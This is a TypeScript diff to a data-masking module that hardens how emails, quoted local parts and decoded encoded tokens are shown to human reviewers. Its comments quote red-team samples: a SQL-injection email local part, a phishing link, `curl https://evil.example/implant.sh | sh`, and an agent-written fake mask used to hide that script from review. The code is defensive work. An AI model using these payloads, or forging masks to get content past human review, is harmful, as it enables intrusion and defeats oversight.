@@ -25,7 +25,9 @@ export interface MaskingOptions {
    * Masks as a reviewer's card shows them, who decides on the value and must tell one from another: an IBAN keeps its
    * check digits (`DE89 [iban …3000]`, not `DE** …`), and an address its domain (`j***@[email at example.com]`). The
    * value's last four characters alone let an attacker's IBAN show as the customer's, and a hidden domain an e-mail change
-   * to the attacker's own (red team, 2026-12-07). Not for logs or the audit trail, which keep the shorter forms.
+   * to the attacker's own (red team, 2026-12-07). Not for logs or the audit trail, which keep the shorter forms, but
+   * for the snapshot of the card a decision records (`shown`): it is what the reviewer saw, and its digest must match.
+   * A domain read from other characters (`ac\u0323me.com`) is not shown: its canonical form would be another domain.
    */
   forReviewers?: boolean;
 }
@@ -241,14 +243,21 @@ const CHAR_SPACED_EMAIL = new RegExp(
 // What CHAR_SPACED_EMAIL finds must be an address once its spaces are gone.
 const COMPACT_EMAIL = /^[\p{L}\p{N}._%+\-'!#$*^`{|}~]{1,64}@(?:[\p{L}\p{N}-]{1,63}\.){1,8}\p{L}{2,24}$/u;
 const SPACED_DOT = / \.|\. /g;
-/** An address's mask: its first character, then `***@[email]` (`forReviewers`: with its domain). */
-function emailMask(address: string, options: MaskingOptions): string {
-  const domain = options.forReviewers ? domainOf(address) : undefined;
+/** An address's mask: its first character, then `***@[email]` (`forReviewers`: with its domain, when read as written). */
+function emailMask(address: string, options: MaskingOptions, asWritten: boolean): string {
+  const domain = options.forReviewers && asWritten ? domainOf(address) : undefined;
   return domain ? `${address[0]}***@[email at ${domain}]` : `${address[0]}***@[email]`;
 }
 
-/** A quoted local part whose mask hides nothing but a name: letters, digits, `._%+-'` and spaces. */
-const PLAIN_QUOTED_LOCAL = /^"[\p{L}\p{N}._%+\-' ]{1,64}"/u;
+/** A quoted local part whose mask hides nothing but a name: words of letters, digits and `._+`, one space apart. */
+const PLAIN_QUOTED_LOCAL = /^"[\p{L}\p{N}._+]{1,64}(?: [\p{L}\p{N}._+]{1,64}){0,8}"/u;
+/**
+ * An unquoted local part that could end a string or a comment, or start an expansion, in the code around it: two
+ * apostrophes, an apostrophe with `--`, or a character no address people use holds (`` ` ``, `$`, `{`, `}`, `|`, `^`,
+ * `~`, `!`, `#`, `*`, `%`). `x'OR'a'LIKE'%'--@acme.com` closed a SQL string and was masked whole (red team of this
+ * change, 2026-12-07). `o'brien` is an address, and is masked.
+ */
+const CODE_IN_LOCAL = /'[^@]*'|'[^@]*--|--[^@]*'|[`${}|^~!#*%]/;
 /** An address's domain as a reviewer reads it (its spaces gone, in lower case), or undefined for an address literal. */
 function domainOf(address: string): string | undefined {
   const at = address.lastIndexOf('@') >= 0 ? address.lastIndexOf('@') + 1 : address.toLowerCase().lastIndexOf('%40') + 3;
@@ -261,11 +270,13 @@ function domainOf(address: string): string | undefined {
  * what can be an address people use. A quoted local part holding anything else (a closing and an opening SQL comment
  * around `DELETE FROM customers;`, `"https://evil.example/verify?t=9"@acme.com`) is found (the text goes to review) and
  * shown as written, an address inside it masked: masked whole, it hid SQL and a link from the reviewer who approved them
- * (red team, 2026-12-07). An unquoted local part holds no space and none of the characters code needs to break out of a
- * string or a comment, so it is masked whatever its length (an address padded in front would otherwise show whole).
+ * (red team, 2026-12-07). So does an unquoted one that could end a string or a comment (`CODE_IN_LOCAL`); any other is
+ * masked, whatever its length (an address padded in front would otherwise show whole).
  */
 function maskable(address: string): boolean {
-  return address[0] !== '"' || PLAIN_QUOTED_LOCAL.test(address);
+  if (address[0] === '"') return PLAIN_QUOTED_LOCAL.test(address);
+  const at = address.search(/ {0,2}@|%40/);
+  return !CODE_IN_LOCAL.test(at < 0 ? address : address.slice(0, at));
 }
 /**
  * Whether the domain of an address whose dots are spaced is one: a letter in every label ("meet @ 5 . ok" is prose),
@@ -485,21 +496,24 @@ function scanLayer(text: string, options: MaskingOptions, strict: boolean, found
   return maskEncoded(scanReading(shown, options, strict, found, 'sent'), options, strict, found, decodings);
 }
 
-/** What decoded text may hold beside its masks and still be masked whole: a label (`Email: `, `tel `), no more. */
-const MAX_HIDDEN_BESIDE_MASKS = 16;
-/** The masks scanning writes (`MASK_FORMS` of masking.ts, as they stand in a decoded text). */
-const MASKS_IN_TEXT = /.\*\*\*@\[email(?: at [^\]\n]*)?\]|\[(?:card|iban|phone) …[^\]\n]{0,8}\]|\[[a-z][a-z0-9-]{0,40}\]|\[encoded [^\]\n]*\]/gu;
+/**
+ * Decoded text that is one value and no more, once masked: a label ending in `:` or `=` at most (`Email: `, `tel=`),
+ * then one mask in the exact form scanning writes, and blanks. Anything else in it, mask-like text the agent wrote
+ * included, is shown (red team of this change, 2026-12-07: `[encoded x; curl … | sh; echo ]` written into the decoded
+ * text passed for a mask, and the script showed as `[encoded email]`).
+ */
+const ONE_MASKED_VALUE =
+  /^\s*(?:[A-Za-z][A-Za-z _-]{0,15}[:=] ?)?(?:\S\*\*\*@\[email(?: at [a-z0-9.-]{1,253})?\]|[A-Z]{2}(?:\*\*|[0-9]{2}) \[iban …[A-Z0-9]{4}\]|\[card …[0-9]{4}\]|\[phone …[0-9]{2}\]|\[[a-z][a-z0-9-]{0,40}\]|\[encoded [a-z, -]{1,100}\])\s*$/u;
 
 /**
- * The mask of an encoded token whose decoded text holds regulated data: `[encoded <kinds>]` when that text is the data
- * (and a label at most), or `[encoded <kinds>: <the decoded text, masked>]` when it holds more. Masked whole, a token
+ * The mask of an encoded token whose decoded text holds regulated data: `[encoded <kinds>]` when that text is one value
+ * (and a label at most: `ONE_MASKED_VALUE`), or `[encoded <kinds>: <the decoded text, masked>]` when it holds more. Masked whole, a token
  * hid everything else it decodes to: a script in base64 that names one address showed as `[encoded email]`, and its
  * `curl https://evil.example/implant.sh | sh` was approved unseen (red team, 2026-12-07).
  */
 function encodedMask(kinds: string[], masked: string, strict: boolean): string {
-  const beside = masked.replace(MASKS_IN_TEXT, '').replace(/[\s.,;:=_'"-]/g, '');
   // In an identifier's value, read without the secret detector: its decoded text is not shown.
-  return strict || beside.length <= MAX_HIDDEN_BESIDE_MASKS ? `[encoded ${kinds.join(', ')}]` : `[encoded ${kinds.join(', ')}: ${masked}]`;
+  return strict || ONE_MASKED_VALUE.test(masked) ? `[encoded ${kinds.join(', ')}]` : `[encoded ${kinds.join(', ')}: ${masked}]`;
 }
 
 /** Encodings read inside one another (base64 of base64 of hex): past that, a token is left as it is. */
@@ -694,11 +708,16 @@ function scan(text: string, options: MaskingOptions, strict: boolean, found: OnF
       found?.('email');
       // Found, and so reviewed, but not masked whole: a mask would hide text that is no address (`maskable`). An address
       // written inside it is masked all the same, or quoting one would carry it past masking.
+      // The domain only as it was written: read from other characters (`ac\u0323me.com`, `acme४.com`, `acme&#46;evil.com`),
+      // its canonical form would show as another domain (red team of this change, 2026-12-07).
+      const asWritten = editor === IN_PLACE;
       if (!maskable(m)) {
+        // An unquoted local part holds no '@': nothing inside it to mask.
+        if (m[0] !== '"') return m;
         const close = m.indexOf('"', 1);
-        return `"${m.slice(1, close).replace(EMAIL, (inner) => emailMask(inner, options))}${m.slice(close)}`;
+        return `"${m.slice(1, close).replace(EMAIL, (inner) => emailMask(inner, options, asWritten))}${m.slice(close)}`;
       }
-      return emailMask(m, options);
+      return emailMask(m, options, asWritten);
     });
   }
   // Every built-in pattern below needs an ASCII digit (IBAN, card, national ids, phone): a text left without one, most
